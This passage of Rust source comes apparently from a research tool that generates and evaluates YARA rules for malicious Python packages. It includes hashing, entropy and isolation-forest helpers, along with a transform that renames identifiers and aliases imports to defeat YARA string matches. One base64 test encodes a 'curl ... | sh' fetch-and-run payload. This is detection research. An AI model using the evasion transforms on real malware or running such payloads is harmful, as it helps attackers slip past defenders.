use rand::Rng;

use crate::edit::{apply_edits, fresh_ident, Edit, TokenView};

/// Names never renamed even when assigned: rebinding these is either a
/// Python special form or too entangled with runtime semantics.
const PROTECTED: &[&str] = &[
    "self",
    "cls",
    "__all__",
    "__version__",
    "__name__",
    "__doc__",
];

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let n = view.tokens.len();

    // Names bound by import statements must keep their spelling here;
    // the aliasing transform owns those.
    let mut imported: HashSet<&str> = HashSet::new();
    for i in 0..n {
        if view.in_import[i] {
            if let Some(w) = view.ident(i) {
                imported.insert(w);
            }
        }
    }

    // Candidates: `def name` / `class name`, plus simple statement-level
    // assignment targets (`name = ...` at the start of a logical line).
    // Names that also appear in keyword-argument / defaulted-parameter
    // position are excluded wholesale: renaming them consistently would
    // require call-convention knowledge this rewriter does not have.
    let kwarg_like = view.kwarg_like_names();
    let mut candidates: Vec<(String, bool)> = Vec::new();
    let mut seen: HashSet<&str> = HashSet::new();
    for i in 0..n {
        let Some(w) = view.ident(i) else { continue };
        if pysrc::is_keyword(w)
            || w.starts_with("__")
            || PROTECTED.contains(&w)
            || imported.contains(w)
            || kwarg_like.contains(w)
            || view.in_import[i]
            || w.len() < 2
        {
            continue;
        }
        let is_def_name = i > 0
            && matches!(view.ident(i - 1), Some("def") | Some("class"))
            && !view.in_import[i - 1];
        let is_assign_target =
            view.at_line_start(i) && i + 1 < n && view.is_op(i + 1, "=") && !view.follows_dot(i);
        if (is_def_name || is_assign_target) && seen.insert(w) {
            candidates.push((w.to_owned(), is_def_name));
        }
    }

    // def/class names always rename (that is the attack); assignment
    // targets rename with high probability so mutants vary in coverage.
    let mut taken = view.all_idents();
    let mut map: HashMap<&str, String> = HashMap::new();
    for (name, is_def) in &candidates {
        if *is_def || rng.gen_bool(0.9) {
            map.insert(name.as_str(), fresh_ident(rng, &mut taken));
        }
    }
    if map.is_empty() {
        return source.to_owned();
    }

    let mut edits = Vec::new();
    for i in 0..n {
        let Some(w) = view.ident(i) else { continue };
        let Some(new) = map.get(w) else { continue };
        // Attribute positions (`obj.name`) refer to a different binding;
        // kwarg-position occurrences cannot exist for surviving
        // candidates (kwarg-entangled names were excluded above).
        if view.follows_dot(i) || view.in_import[i] {
            continue;
        }
        let t = &view.tokens[i];
        edits.push(Edit::replace(t.start, t.end, new.clone()));
    }
    apply_edits(source, edits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn run(src: &str) -> String {
        apply(src, &mut StdRng::seed_from_u64(7))
    }

    #[test]
    fn renames_def_and_uses_consistently() {
        let src = "def send_beacon():\n    return 1\n\nsend_beacon()\n";
        let out = run(src);
        assert!(!out.contains("send_beacon"), "{out}");
        // Still one def and one call of the same name.
        let m = pysrc::parse_module(&out);
        let name = match &m.body[0] {
            pysrc::Stmt::FunctionDef { name, .. } => name.clone(),
            other => panic!("unexpected {other:?}"),
        };
        assert!(out.contains(&format!("{name}()")));
    }

    #[test]
    fn keeps_imports_and_attributes() {
        let src = "import os\nhost = 'x'\nos.system(host)\n";
        let out = run(src);
        assert!(out.contains("import os"));
        assert!(out.contains("os.system"));
        assert!(!out.contains("host"), "{out}");
    }

    #[test]
    fn kwarg_entangled_names_are_never_renamed() {
        // `shell` doubles as a module variable and a keyword-argument
        // name: renaming either occurrence would change semantics, so
        // the whole name is off limits.
        let src = "shell = 1\nPopen(cmd, shell=True)\n";
        let out = run(src);
        assert!(out.contains("shell=True"), "{out}");
        assert!(out.contains("shell = 1"), "{out}");
    }

    #[test]
    fn defaulted_parameters_stay_consistent_with_their_body() {
        // A defaulted parameter shadowing a module global must not end
        // up half-renamed (body renamed, parameter kept).
        let src = "host = 'x'\n\ndef fetch(host=1):\n    return host\n";
        let out = run(src);
        assert!(out.contains("host = 'x'"), "{out}");
        assert!(out.contains("(host=1)"), "{out}");
        assert!(out.contains("return host"), "{out}");
    }

    #[test]
    fn deterministic_per_seed() {
        let src = "def fetch():\n    payload = 1\n    return payload\n";
        let a = apply(src, &mut StdRng::seed_from_u64(3));
        let b = apply(src, &mut StdRng::seed_from_u64(3));
        let c = apply(src, &mut StdRng::seed_from_u64(4));
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn self_and_dunders_protected() {
        let src = "__version__ = '1.0'\nclass A:\n    def m(self):\n        self.x = 1\n";
        let out = run(src);
        assert!(out.contains("__version__"));
        assert!(out.contains("self.x"));
    }
}

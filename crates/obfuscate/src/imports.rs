//! Import aliasing: `import os` becomes `import os as cfg_1a2b`, and
//! every bare use of `os` follows the alias.
//!
//! The module keeps loading and every call still resolves — but the
//! tell-tale `os.system` / `subprocess.Popen` spellings YARA atoms key
//! on no longer exist as contiguous text.

use std::collections::{HashMap, HashSet};

use pysrc::TokenKind;
use rand::rngs::StdRng;
use rand::Rng;

use crate::edit::{apply_edits, fresh_ident, Edit, TokenView};

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let n = view.tokens.len();

    // Aliasable sites: a logical line that is exactly `import X` for a
    // single dot-free module. Anything fancier (dotted paths, commas,
    // existing aliases, `from` forms) is left alone.
    let mut aliasable: Vec<(usize, String)> = Vec::new(); // (ident index, module)
    let mut blocked: HashSet<String> = HashSet::new();
    for i in 0..n {
        if view.ident(i) != Some("import") || !view.in_import[i] || !view.at_line_start(i) {
            continue;
        }
        let Some(module) = view.ident(i + 1).map(str::to_owned) else {
            continue;
        };
        let simple = matches!(
            view.tokens.get(i + 2).map(|t| t.kind()),
            Some(TokenKind::Newline) | Some(TokenKind::Comment(_)) | Some(TokenKind::Eof) | None
        );
        if simple {
            aliasable.push((i + 1, module));
        } else {
            blocked.insert(module);
        }
    }
    // A module imported twice, also named in a `from X import` /
    // `import X.sub` line, or reused as a keyword-argument/parameter
    // name anywhere, keeps its spelling everywhere.
    for i in 0..n {
        if view.ident(i) == Some("from") && view.in_import[i] {
            if let Some(m) = view.ident(i + 1) {
                blocked.insert(m.to_owned());
            }
        }
    }
    blocked.extend(view.kwarg_like_names());
    let mut counts: HashMap<&str, usize> = HashMap::new();
    for (_, m) in &aliasable {
        *counts.entry(m.as_str()).or_default() += 1;
    }

    let mut taken = view.all_idents();
    let mut alias_of: HashMap<String, String> = HashMap::new();
    let mut edits = Vec::new();
    for (idx, module) in &aliasable {
        if blocked.contains(module)
            || counts[module.as_str()] > 1
            || alias_of.contains_key(module)
            || !rng.gen_bool(0.85)
        {
            continue;
        }
        let alias = fresh_ident(rng, &mut taken);
        let t = &view.tokens[*idx];
        edits.push(Edit::replace(
            t.start,
            t.end,
            format!("{module} as {alias}"),
        ));
        alias_of.insert(module.clone(), alias);
    }
    if alias_of.is_empty() {
        return source.to_owned();
    }

    for i in 0..n {
        let Some(w) = view.ident(i) else { continue };
        let Some(alias) = alias_of.get(w) else {
            continue;
        };
        // Attribute and import-line occurrences keep their spelling;
        // kwarg-position occurrences cannot exist for aliased modules
        // (kwarg-entangled names are blocked above).
        if view.in_import[i] || view.follows_dot(i) {
            continue;
        }
        let t = &view.tokens[i];
        edits.push(Edit::replace(t.start, t.end, alias.clone()));
    }
    apply_edits(source, edits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn aliases_import_and_uses() {
        let src = "import os\nimport sys\nos.system(sys.argv[1])\n";
        let out = apply(src, &mut StdRng::seed_from_u64(1));
        assert!(!out.contains("os.system"), "{out}");
        let m = pysrc::parse_module(&out);
        // Still two imports; the aliased call resolves through the alias.
        let imports = pysrc::collect_imports(&m);
        assert!(imports.contains(&"os".to_owned()));
        assert!(imports.contains(&"sys".to_owned()));
    }

    #[test]
    fn dotted_and_from_imports_untouched() {
        let src = "import os.path\nfrom os import environ\nos.path.join(environ)\n";
        let out = apply(src, &mut StdRng::seed_from_u64(1));
        assert_eq!(out, src);
    }

    #[test]
    fn multi_import_lines_untouched() {
        let src = "import os, sys\nos.system('x')\n";
        let out = apply(src, &mut StdRng::seed_from_u64(1));
        assert_eq!(out, src);
    }

    #[test]
    fn deterministic() {
        let src = "import base64\nbase64.b64decode(x)\n";
        let a = apply(src, &mut StdRng::seed_from_u64(6));
        assert_eq!(a, apply(src, &mut StdRng::seed_from_u64(6)));
    }
}

//! Property-based tests for the hashing/encoding substrate.

use proptest::prelude::*;

proptest! {
    #[test]
    fn base64_roundtrips_arbitrary_bytes(data in prop::collection::vec(any::<u8>(), 0..256)) {
        let encoded = digest::base64::encode(&data);
        prop_assert_eq!(digest::base64::decode(&encoded).expect("decode"), data);
    }

    #[test]
    fn base64_output_alphabet_is_clean(data in prop::collection::vec(any::<u8>(), 0..128)) {
        let encoded = digest::base64::encode(&data);
        prop_assert!(encoded
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'='));
        prop_assert_eq!(encoded.len() % 4, 0);
    }

    #[test]
    fn sha256_is_deterministic_and_sensitive(data in prop::collection::vec(any::<u8>(), 1..128)) {
        let a = digest::sha256(&data);
        let b = digest::sha256(&data);
        prop_assert_eq!(a, b);
        let mut mutated = data.clone();
        mutated[0] = mutated[0].wrapping_add(1);
        prop_assert_ne!(digest::sha256(&mutated), a);
    }

    #[test]
    fn sha256_hex_is_64_lower_hex(data in prop::collection::vec(any::<u8>(), 0..64)) {
        let hex = digest::sha256_hex(&data);
        prop_assert_eq!(hex.len(), 64);
        prop_assert!(hex.bytes().all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
    }

    #[test]
    fn entropy_bounds(data in prop::collection::vec(any::<u8>(), 0..512)) {
        let e = digest::shannon_entropy(&data);
        prop_assert!((0.0..=8.0).contains(&e), "{e}");
    }

    #[test]
    fn entropy_of_constant_is_zero(byte in any::<u8>(), len in 1usize..64) {
        let data = vec![byte; len];
        prop_assert_eq!(digest::shannon_entropy(&data), 0.0);
    }

    #[test]
    fn fnv_collision_free_on_small_distinct_pairs(a in "[a-z]{1,12}", b in "[a-z]{1,12}") {
        prop_assume!(a != b);
        // Not a guarantee in general, but at this scale a collision would
        // indicate a broken implementation.
        prop_assert_ne!(digest::fnv1a(a.as_bytes()), digest::fnv1a(b.as_bytes()));
    }
}

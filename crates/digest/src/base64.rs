//! Standard-alphabet base64 (RFC 4648) with padding.
//!
//! The synthetic malware corpus hides payloads behind
//! `exec(base64.b64decode(...))` exactly like the GuardDog samples; the
//! LLM analyzer decodes one layer when auditing for obfuscation.

use std::error::Error;
use std::fmt;

const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Error returned by [`decode`] for malformed input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodeError {
    /// Offset of the offending character.
    pub position: usize,
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid base64 at offset {}", self.position)
    }
}

impl Error for DecodeError {}

/// Encodes `data` as base64 with `=` padding.
pub fn encode(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = chunk[0] as u32;
        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
        let n = (b0 << 16) | (b1 << 8) | b2;
        out.push(ALPHABET[(n >> 18) as usize & 63] as char);
        out.push(ALPHABET[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            ALPHABET[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            ALPHABET[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// Decodes base64 `input` (padding required for the final group).
///
/// # Errors
///
/// Returns [`DecodeError`] on characters outside the alphabet or
/// mis-placed padding.
pub fn decode(input: &str) -> Result<Vec<u8>, DecodeError> {
    let bytes = input.as_bytes();
    let mut out = Vec::with_capacity(bytes.len() / 4 * 3);
    let mut quad = [0u8; 4];
    let mut quad_len = 0;
    let mut pad = 0;
    for (pos, &b) in bytes.iter().enumerate() {
        if b == b'\n' || b == b'\r' {
            continue;
        }
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => {
                pad += 1;
                if pad > 2 {
                    return Err(DecodeError { position: pos });
                }
                quad[quad_len] = 0;
                quad_len += 1;
                if quad_len == 4 {
                    flush(&quad, pad, &mut out);
                    quad_len = 0;
                }
                continue;
            }
            _ => return Err(DecodeError { position: pos }),
        };
        if pad > 0 {
            // Data after padding is malformed.
            return Err(DecodeError { position: pos });
        }
        quad[quad_len] = v;
        quad_len += 1;
        if quad_len == 4 {
            flush(&quad, 0, &mut out);
            quad_len = 0;
        }
    }
    if quad_len != 0 {
        return Err(DecodeError {
            position: input.len(),
        });
    }
    Ok(out)
}

fn flush(quad: &[u8; 4], pad: usize, out: &mut Vec<u8>) {
    let n = (u32::from(quad[0]) << 18)
        | (u32::from(quad[1]) << 12)
        | (u32::from(quad[2]) << 6)
        | u32::from(quad[3]);
    out.push((n >> 16) as u8);
    if pad < 2 {
        out.push((n >> 8) as u8);
    }
    if pad < 1 {
        out.push(n as u8);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc4648_vectors() {
        assert_eq!(encode(b""), "");
        assert_eq!(encode(b"f"), "Zg==");
        assert_eq!(encode(b"fo"), "Zm8=");
        assert_eq!(encode(b"foo"), "Zm9v");
        assert_eq!(encode(b"foob"), "Zm9vYg==");
        assert_eq!(encode(b"fooba"), "Zm9vYmE=");
        assert_eq!(encode(b"foobar"), "Zm9vYmFy");
    }

    #[test]
    fn decode_vectors() {
        assert_eq!(decode("").unwrap(), b"");
        assert_eq!(decode("Zg==").unwrap(), b"f");
        assert_eq!(decode("Zm8=").unwrap(), b"fo");
        assert_eq!(decode("Zm9vYmFy").unwrap(), b"foobar");
    }

    #[test]
    fn roundtrip_binary() {
        let data: Vec<u8> = (0..=255u8).collect();
        assert_eq!(decode(&encode(&data)).unwrap(), data);
    }

    #[test]
    fn decode_tolerates_newlines() {
        assert_eq!(decode("Zm9v\nYmFy").unwrap(), b"foobar");
    }

    #[test]
    fn decode_rejects_garbage() {
        let err = decode("Zm9*").unwrap_err();
        assert_eq!(err.position, 3);
    }

    #[test]
    fn decode_rejects_truncated() {
        assert!(decode("Zm9").is_err());
    }

    #[test]
    fn decode_rejects_data_after_padding() {
        assert!(decode("Zg==Zg==").is_err());
    }

    #[test]
    fn obfuscated_payload_roundtrip() {
        let payload = "import os; os.system('curl http://1.2.3.4/x.sh | sh')";
        let enc = encode(payload.as_bytes());
        assert_eq!(decode(&enc).unwrap(), payload.as_bytes());
    }
}

//! Shannon entropy over bytes.

/// Computes the Shannon entropy of `data` in bits per byte (0.0–8.0).
///
/// The score-based baseline (§V-A) weights candidate strings by entropy:
/// high-entropy strings (encoded payloads, random C2 hostnames) are
/// stronger signature material than low-entropy boilerplate.
///
/// Returns `0.0` for empty input.
pub fn shannon_entropy(data: &[u8]) -> f64 {
    if data.is_empty() {
        return 0.0;
    }
    let mut counts = [0usize; 256];
    for &b in data {
        counts[b as usize] += 1;
    }
    let len = data.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / len;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_is_zero() {
        assert_eq!(shannon_entropy(b""), 0.0);
    }

    #[test]
    fn uniform_single_byte_is_zero() {
        assert_eq!(shannon_entropy(b"aaaaaaaa"), 0.0);
    }

    #[test]
    fn two_symbols_equal_split_is_one_bit() {
        let e = shannon_entropy(b"abababab");
        assert!((e - 1.0).abs() < 1e-9, "got {e}");
    }

    #[test]
    fn random_looking_base64_has_high_entropy() {
        let e = shannon_entropy(b"aGVsbG8gd29ybGQhIHRoaXMgaXMgYSB0ZXN0IHZlY3Rvcg==");
        assert!(e > 4.0, "got {e}");
    }

    #[test]
    fn english_text_is_mid_entropy() {
        let e = shannon_entropy(b"the quick brown fox jumps over the lazy dog");
        assert!(e > 3.0 && e < 5.0, "got {e}");
    }

    #[test]
    fn all_256_bytes_is_eight_bits() {
        let data: Vec<u8> = (0..=255u8).collect();
        let e = shannon_entropy(&data);
        assert!((e - 8.0).abs() < 1e-9, "got {e}");
    }
}

//! FNV-1a 64-bit hash — feature bucketing for the embedding substrate.

const OFFSET: u64 = 0xcbf29ce484222325;
const PRIME: u64 = 0x100000001b3;

/// Computes the 64-bit FNV-1a hash of `data`.
///
/// Deterministic across platforms, which keeps the embedding (and therefore
/// clustering, rule generation and every downstream table) reproducible.
pub fn fnv1a(data: &[u8]) -> u64 {
    let mut h = OFFSET;
    for &b in data {
        h ^= u64::from(b);
        h = h.wrapping_mul(PRIME);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        // Reference values for FNV-1a 64-bit.
        assert_eq!(fnv1a(b""), 0xcbf29ce484222325);
        assert_eq!(fnv1a(b"a"), 0xaf63dc4c8601ec8c);
        assert_eq!(fnv1a(b"foobar"), 0x85944171f73967e8);
    }

    #[test]
    fn distinct_inputs_distinct_hashes() {
        assert_ne!(fnv1a(b"os.system"), fnv1a(b"os.popen"));
    }

    #[test]
    fn deterministic() {
        assert_eq!(fnv1a(b"token"), fnv1a(b"token"));
    }
}

//! `rulellm-digest` — hashing and encoding substrate.
//!
//! The paper deduplicates the 3,200-package GuardDog corpus down to 1,633
//! unique packages by content signature (§V-A) and its malware samples
//! carry base64-obfuscated payloads. This crate provides the primitives
//! both of those need:
//!
//! * [`sha256`] — package signatures for deduplication.
//! * [`fnv1a`] — cheap 64-bit hashing for embedding feature buckets.
//! * [`base64`] — encode/decode used by the synthetic corpus to build (and
//!   the analyzers to unwrap) obfuscated payloads.
//! * [`shannon_entropy`] — string randomness score used by the score-based
//!   baseline (information-entropy component, §V-A).
//!
//! # Examples
//!
//! ```
//! let sig = digest::sha256_hex(b"malware-package-contents");
//! assert_eq!(sig.len(), 64);
//!
//! let enc = digest::base64::encode(b"import os");
//! assert_eq!(digest::base64::decode(&enc).unwrap(), b"import os");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod base64;
mod entropy;
mod fnv;
mod sha256;

pub use entropy::shannon_entropy;
pub use fnv::fnv1a;
pub use sha256::{sha256, sha256_hex, to_hex, Sha256};

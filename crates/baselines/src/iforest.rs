//! Isolation forest (Liu et al. 2008) over small feature vectors.
//!
//! The score-based baseline (§V-A) weights candidate strings by an
//! isolation-forest anomaly score: strings whose feature vectors are easy
//! to isolate (rare length/charset/entropy combinations) are stronger
//! signature material.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// One tree node.
#[derive(Debug)]
enum Node {
    Split {
        feature: usize,
        threshold: f64,
        left: Box<Node>,
        right: Box<Node>,
    },
    Leaf {
        size: usize,
    },
}

/// An isolation forest.
#[derive(Debug)]
pub struct IsolationForest {
    trees: Vec<Node>,
    sample_size: usize,
}

impl IsolationForest {
    /// Fits `n_trees` trees on `data` (rows are feature vectors), using
    /// subsamples of `sample_size` rows.
    ///
    /// # Panics
    ///
    /// Panics when `data` is empty or rows have inconsistent lengths.
    pub fn fit(data: &[Vec<f64>], n_trees: usize, sample_size: usize, seed: u64) -> Self {
        assert!(!data.is_empty(), "isolation forest needs data");
        let dim = data[0].len();
        assert!(
            data.iter().all(|r| r.len() == dim),
            "rows must share dimensionality"
        );
        let mut rng = StdRng::seed_from_u64(seed);
        let sample_size = sample_size.min(data.len()).max(2);
        let max_depth = (sample_size as f64).log2().ceil() as usize + 1;
        let mut trees = Vec::with_capacity(n_trees);
        for _ in 0..n_trees {
            let sample: Vec<&Vec<f64>> = (0..sample_size)
                .map(|_| &data[rng.gen_range(0..data.len())])
                .collect();
            trees.push(build_tree(&sample, 0, max_depth, &mut rng));
        }
        IsolationForest { trees, sample_size }
    }

    /// Anomaly score in (0, 1); higher = more anomalous. 0.5 is the
    /// natural midpoint per the original paper.
    pub fn score(&self, point: &[f64]) -> f64 {
        let mean_path: f64 = self
            .trees
            .iter()
            .map(|t| path_length(t, point, 0))
            .sum::<f64>()
            / self.trees.len() as f64;
        let c = c_factor(self.sample_size);
        2f64.powf(-mean_path / c)
    }
}

fn build_tree(sample: &[&Vec<f64>], depth: usize, max_depth: usize, rng: &mut StdRng) -> Node {
    if sample.len() <= 1 || depth >= max_depth {
        return Node::Leaf {
            size: sample.len().max(1),
        };
    }
    let dim = sample[0].len();
    // Pick a feature with spread; give up after a few tries.
    for _ in 0..4 {
        let feature = rng.gen_range(0..dim);
        let (mut lo, mut hi) = (f64::INFINITY, f64::NEG_INFINITY);
        for row in sample {
            lo = lo.min(row[feature]);
            hi = hi.max(row[feature]);
        }
        if hi <= lo {
            continue;
        }
        let threshold = rng.gen_range(lo..hi);
        let left: Vec<&Vec<f64>> = sample
            .iter()
            .filter(|r| r[feature] < threshold)
            .copied()
            .collect();
        let right: Vec<&Vec<f64>> = sample
            .iter()
            .filter(|r| r[feature] >= threshold)
            .copied()
            .collect();
        if left.is_empty() || right.is_empty() {
            continue;
        }
        return Node::Split {
            feature,
            threshold,
            left: Box::new(build_tree(&left, depth + 1, max_depth, rng)),
            right: Box::new(build_tree(&right, depth + 1, max_depth, rng)),
        };
    }
    Node::Leaf { size: sample.len() }
}

fn path_length(node: &Node, point: &[f64], depth: usize) -> f64 {
    match node {
        Node::Leaf { size } => depth as f64 + c_factor(*size),
        Node::Split {
            feature,
            threshold,
            left,
            right,
        } => {
            if point[*feature] < *threshold {
                path_length(left, point, depth + 1)
            } else {
                path_length(right, point, depth + 1)
            }
        }
    }
}

/// Average path length of unsuccessful BST search (the normalizer `c(n)`).
fn c_factor(n: usize) -> f64 {
    if n <= 1 {
        return 0.0;
    }
    let n = n as f64;
    2.0 * ((n - 1.0).ln() + 0.5772156649) - 2.0 * (n - 1.0) / n
}

/// Feature vector for a candidate signature string: length, entropy,
/// digit ratio, punctuation ratio, uppercase ratio.
pub fn string_features(s: &str) -> Vec<f64> {
    let bytes = s.as_bytes();
    let len = bytes.len().max(1) as f64;
    let digits = bytes.iter().filter(|b| b.is_ascii_digit()).count() as f64;
    let punct = bytes.iter().filter(|b| b.is_ascii_punctuation()).count() as f64;
    let upper = bytes.iter().filter(|b| b.is_ascii_uppercase()).count() as f64;
    vec![
        (bytes.len() as f64).min(200.0),
        digest::shannon_entropy(bytes),
        digits / len,
        punct / len,
        upper / len,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blob(rng_seed: u64, n: usize) -> Vec<Vec<f64>> {
        let mut rng = StdRng::seed_from_u64(rng_seed);
        (0..n)
            .map(|_| vec![rng.gen_range(-1.0..1.0), rng.gen_range(-1.0..1.0)])
            .collect()
    }

    #[test]
    fn outlier_scores_higher_than_inliers() {
        let mut data = blob(1, 200);
        data.push(vec![8.0, 8.0]); // clear outlier
        let forest = IsolationForest::fit(&data, 100, 64, 7);
        let outlier = forest.score(&[8.0, 8.0]);
        let inlier = forest.score(&[0.0, 0.0]);
        assert!(
            outlier > inlier + 0.1,
            "outlier {outlier} vs inlier {inlier}"
        );
    }

    #[test]
    fn scores_in_unit_interval() {
        let data = blob(2, 50);
        let forest = IsolationForest::fit(&data, 50, 32, 3);
        for p in &data {
            let s = forest.score(p);
            assert!((0.0..=1.0).contains(&s), "{s}");
        }
    }

    #[test]
    fn deterministic_given_seed() {
        let data = blob(3, 60);
        let a = IsolationForest::fit(&data, 30, 32, 9).score(&[0.5, 0.5]);
        let b = IsolationForest::fit(&data, 30, 32, 9).score(&[0.5, 0.5]);
        assert_eq!(a, b);
    }

    #[test]
    #[should_panic(expected = "needs data")]
    fn empty_data_panics() {
        let _ = IsolationForest::fit(&[], 10, 16, 1);
    }

    #[test]
    fn string_features_shape() {
        let f = string_features("https://zorbex.xyz/tasks");
        assert_eq!(f.len(), 5);
        assert!(f[0] > 0.0);
        assert!(f[1] > 2.0); // entropy of a URL
    }

    #[test]
    fn identical_points_score_mid() {
        let data = vec![vec![1.0, 1.0]; 40];
        let forest = IsolationForest::fit(&data, 20, 16, 2);
        let s = forest.score(&[1.0, 1.0]);
        assert!(s > 0.3 && s < 0.9, "{s}");
    }
}

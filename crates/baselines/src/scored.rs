//! The score-based rule generator (§V-A baseline 2).
//!
//! Pipeline: (1) cluster malware and legitimate packages into code groups
//! (§III-B's K-Means); (2) per malware group, collect candidate strings;
//! (3) score each candidate with isolation forest (×1.2), TF-IDF (×1.0)
//! and information entropy (×0.8); (4) candidates whose blended score
//! clears the 0.9 threshold fill the `strings:` section of a YARA rule
//! template.

use std::collections::HashSet;

use oss_registry::Package;

use crate::iforest::{string_features, IsolationForest};

/// Paper weights (§V-A).
pub const W_IFOREST: f64 = 1.2;
/// TF-IDF weight.
pub const W_TFIDF: f64 = 1.0;
/// Entropy weight.
pub const W_ENTROPY: f64 = 0.8;
/// Selection threshold on the normalized blended score.
pub const THRESHOLD: f64 = 0.9;

/// One candidate string with its component scores.
#[derive(Debug, Clone, PartialEq)]
pub struct ScoredString {
    /// The candidate text.
    pub text: String,
    /// Isolation-forest anomaly score (0..1).
    pub iforest: f64,
    /// TF-IDF score, normalized to 0..1 within the group.
    pub tfidf: f64,
    /// Shannon entropy, normalized by 6 bits.
    pub entropy: f64,
}

impl ScoredString {
    /// Weighted blend, normalized so a perfect candidate scores 1.0.
    pub fn blended(&self) -> f64 {
        (W_IFOREST * self.iforest + W_TFIDF * self.tfidf + W_ENTROPY * self.entropy)
            / (W_IFOREST + W_TFIDF + W_ENTROPY)
    }
}

/// Extracts candidate strings from source code: string literals and
/// import targets longer than 6 characters.
///
/// Deliberately *not* call paths: the original score-based tools operate
/// on strings extracted from binaries, which is why the baseline
/// overfits to package-specific literals (URLs, paths) and generalizes
/// worse than RuleLLM (Table VIII's score-based row).
pub fn candidate_strings(code: &str) -> Vec<String> {
    let module = pysrc::parse_module(code);
    let mut out: Vec<String> = Vec::new();
    let mut seen = HashSet::new();
    for (s, _line) in pysrc::collect_strings(&module) {
        if s.len() >= 6 && s.len() <= 120 && seen.insert(s.to_owned()) {
            out.push(s.to_owned());
        }
    }
    for import in pysrc::collect_imports(&module) {
        if import.len() >= 6 && seen.insert(import.clone()) {
            out.push(import);
        }
    }
    out
}

/// Scores candidates of one malware group against a legitimate group.
///
/// TF = occurrence count across the malware group; DF = presence in the
/// legitimate group (candidates common in benign code are worthless).
pub fn score_group(malware_codes: &[&str], legit_codes: &[&str], seed: u64) -> Vec<ScoredString> {
    // Sampling caps keep candidate extraction tractable at the paper's
    // corpus size; document frequency is computed with one Aho-Corasick
    // pass per document over the *full* text, so common strings are never
    // mistaken for distinctive ones.
    const MAX_CANDIDATE_DOCS: usize = 12;
    const MAX_TF_DOCS: usize = 24;
    const MAX_DF_DOCS: usize = 40;
    const MAX_CANDIDATES: usize = 400;

    let mut candidates: Vec<String> = Vec::new();
    let mut seen = HashSet::new();
    for code in malware_codes.iter().take(MAX_CANDIDATE_DOCS) {
        for c in candidate_strings(code) {
            if seen.insert(c.clone()) {
                candidates.push(c);
            }
        }
    }
    candidates.truncate(MAX_CANDIDATES);
    let tf_docs: Vec<&str> = malware_codes.iter().copied().take(MAX_TF_DOCS).collect();
    let df_docs: Vec<&str> = legit_codes.iter().copied().take(MAX_DF_DOCS).collect();
    if candidates.is_empty() {
        return Vec::new();
    }
    // One multi-pattern pass per document gives exact containment counts.
    let ac = textmatch::AhoCorasick::new(&candidates, textmatch::MatchKind::CaseSensitive);
    let mut tf_counts = vec![0usize; candidates.len()];
    for doc in &tf_docs {
        for idx in doc_pattern_set(&ac, doc, candidates.len()) {
            tf_counts[idx] += 1;
        }
    }
    let mut df_counts = vec![0usize; candidates.len()];
    for doc in &df_docs {
        for idx in doc_pattern_set(&ac, doc, candidates.len()) {
            df_counts[idx] += 1;
        }
    }
    // Isolation forest over string feature vectors.
    let features: Vec<Vec<f64>> = candidates.iter().map(|c| string_features(c)).collect();
    let forest = IsolationForest::fit(&features, 64, 64, seed);

    // TF-IDF: term frequency in the malware group, inverse document
    // frequency over (sampled) legit docs.
    let n_legit = df_docs.len().max(1) as f64;
    let mut scored: Vec<ScoredString> = Vec::with_capacity(candidates.len());
    let mut max_tfidf = 0f64;
    for (i, cand) in candidates.iter().enumerate() {
        let tf = tf_counts[i] as f64 / tf_docs.len().max(1) as f64;
        let df = df_counts[i] as f64;
        let idf = (n_legit / (1.0 + df)).ln().max(0.0) / n_legit.ln().max(1.0);
        let tfidf = tf * idf;
        max_tfidf = max_tfidf.max(tfidf);
        scored.push(ScoredString {
            text: cand.clone(),
            iforest: forest.score(&features[i]),
            tfidf,
            entropy: (digest::shannon_entropy(cand.as_bytes()) / 6.0).min(1.0),
        });
    }
    if max_tfidf > 0.0 {
        for s in &mut scored {
            s.tfidf /= max_tfidf;
        }
    }
    scored.sort_by(|a, b| b.blended().total_cmp(&a.blended()));
    scored
}

/// The set of candidate indices present in `doc` (one automaton pass).
fn doc_pattern_set(ac: &textmatch::AhoCorasick, doc: &str, n_candidates: usize) -> Vec<usize> {
    let mut present = vec![false; n_candidates];
    for m in ac.find_all(doc.as_bytes()) {
        present[m.pattern] = true;
    }
    present
        .into_iter()
        .enumerate()
        .filter(|(_, p)| *p)
        .map(|(i, _)| i)
        .collect()
}

/// Fills the YARA rule template with the selected strings.
pub fn rule_from_strings(name: &str, strings: &[&str]) -> String {
    let mut out = format!(
